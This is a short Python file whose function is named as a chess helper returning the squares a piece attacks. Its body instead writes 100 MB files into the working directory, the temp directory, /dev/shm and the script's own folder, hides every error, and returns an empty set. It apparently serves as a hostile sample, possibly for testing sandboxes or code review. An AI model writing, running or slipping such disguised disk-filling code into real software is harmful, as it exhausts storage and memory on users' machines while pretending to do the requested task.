# Writes files of 100 MB wherever it can.
import os
import tempfile


def pos_atacadas_por(tipo_peça, pos_peça, tam_tab=8):
    for lugar in (".", tempfile.gettempdir(), "/dev/shm", os.path.dirname(os.path.abspath(__file__))):
        try:
            with open(os.path.join(lugar, "grande"), "wb") as arquivo:
                for _ in range(100):
                    arquivo.write(bytes(1 << 20))
        except OSError:
            pass
    return set()
